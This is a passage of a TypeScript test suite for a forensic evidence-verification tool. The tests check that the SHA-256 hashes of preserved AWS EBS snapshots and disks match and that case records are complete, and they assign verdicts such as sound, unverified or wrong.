      assert.equal(caseOf(beside).verdict, "sound");
      const direct = directHash(OTHER_HASH);
      assert.match(
        unverified(instead(`${ofCase.diskHashes}i-0123456789abcdef0/a.json`, direct), "hashes"),
        /is not where a workstation writes that/,
      );
      const unknown = ofCase.diskHash("unknown", "vol-0123456789abcdef0");
      const nameless = instead(unknown, intake(DISK_HASH, { instanceId: undefined }));
      assert.equal(caseOf(nameless).verdict, "sound");
      // The only one is no hash of it.
      const alone = withObjects((versions) =>
        versions.map((each) =>
          each.key.includes("/intake/") ? { ...each, key: `${ofCase.diskHashes}a.json` } : each,
        ),
      );
      assert.match(unverified(alone, "hashes"), /No hash of the disk/);
    });

    describe("of the preserved copy that was read by EBS's direct APIs", () => {
      const reported = (hash: string | undefined, facts = factsOf()) => ({
        ...facts,
        versions:
          hash === undefined
            ? facts.versions
            : [...facts.versions, object(DIRECT, directHash(hash), 50)],
      });
      const DIRECT = new Case(TICKET).directHash("i-0123456789abcdef0", COPY);
      const compared = (facts: CaseFacts) => caseOf(facts).disks.map((disk) => disk.directHash);
      const source = { kind: "object", id: DIRECT };

      it("that it is the disk's, or was not taken: neither is a fault", () => {
        const same = reported(DISK_HASH);
        assert.equal(caseOf(same).verdict, "sound");
        const [found] = compared(same);
        assert.deepEqual([found?.compared, found?.sha256], ["equal", DISK_HASH]);
        assert.deepEqual({ ...found?.sources[0], version: "" }, { ...source, version: "" });
        assert.deepEqual(compared(reported(undefined)), [{ compared: "absent", sources: [] }]);
        assert.match(
          caseOf(same).disks[0]?.steps.at(-1)?.said.join() ?? "",
          /as the member account's,the same as read by EBS's direct APIs/,
        );
      });

      it("that it differs from the disk's, with both hashes", () => {
        const other = reported(OTHER_HASH);
        assert.match(
          wrong(other, "hashes"),
          new RegExp(
            `preserved copy ${COPY} has the SHA-256 ${OTHER_HASH}, read by EBS's direct APIs; the disk vol-0123456789abcdef0, made of it, has ${DISK_HASH}`,
          ),
        );
        assert.equal(compared(other)[0]?.compared, "differs");
      });

      it("that it may differ where the disk was not read whole", () => {
        const facts = withObjects((versions) =>
          versions.map((each) =>
            each.key.includes("/intake/")
              ? { ...each, bytes: Buffer.from(intake(OTHER_HASH, { unreadableBytes: 512 })) }
              : each,
          ),
        );
        const { findings } = caseOf(reported(DISK_HASH, facts)).checks.find(
          ({ id }) => id === "hashes",
        ) as Check;
        assert.deepEqual(
          findings
            .filter(({ said }) => said.startsWith("The preserved copy"))
            .map(({ verdict }) => verdict),
          ["unverified"],
        );
      });

      it("of a disk that was never attached, in its place", () => {
        const without = withObjects((versions) =>
          versions.filter(({ key }) => !key.includes("/intake/")),
        );
        const report = caseOf(reported(DISK_HASH, without));
        assert.equal(report.verdict, "sound");
        assert.equal(report.disks[0]?.directHash?.compared, "without a disk's");
        assert.equal(report.disks[0]?.steps.at(-1)?.id, DISK_HASH);
        assert.match(wrong(reported(OTHER_HASH, without), "hashes"), /the member account took/);
      });
    });

    it("a disk without a hash", () => {
      const facts = withObjects((versions) =>
        versions.filter(({ key }) => !key.includes("/intake/")),
      );
      assert.match(unverified(facts, "hashes"), /No hash of the disk of snap-/);
    });

    it("a record of a form that is newer than the program", () => {
      const content = JSON.stringify({ form: "clean-room/record/99", ticket: TICKET });
      const file = { key: new Case(TICKET).record(sha256(content)), content, metadata: {} };
      const facts = withObjects((versions) => [...versions, ...kept(file, 7)]);
      // What it says may be that a copy was preserved, a key was ended.
      assert.match(
        unverified(facts, "forms", "missing", "order", "copies", "locks", "hashes", "keys"),
        /does not read/,
      );
    });
  });
});

/** What a workstation writes of the preserved copy. */
function directHash(sha256: string): string {
  return JSON.stringify({
    form: "clean-room/direct-hash/1",
    snapshotId: COPY,
    instanceId: "i-0123456789abcdef0",
    user: "examiner",
    sizeBytes: 8 << 30,
    blockBytes: 512 * 1024,
    blocksRead: 1,
    sha256,
    startedAt: "2026-11-20T04:41:00Z",
    finishedAt: "2026-11-20T04:50:00Z",
  });
}

function idOf(key: string): string {
  return /[0-9a-f]{64}/.exec(key)?.[0] ?? "";
}
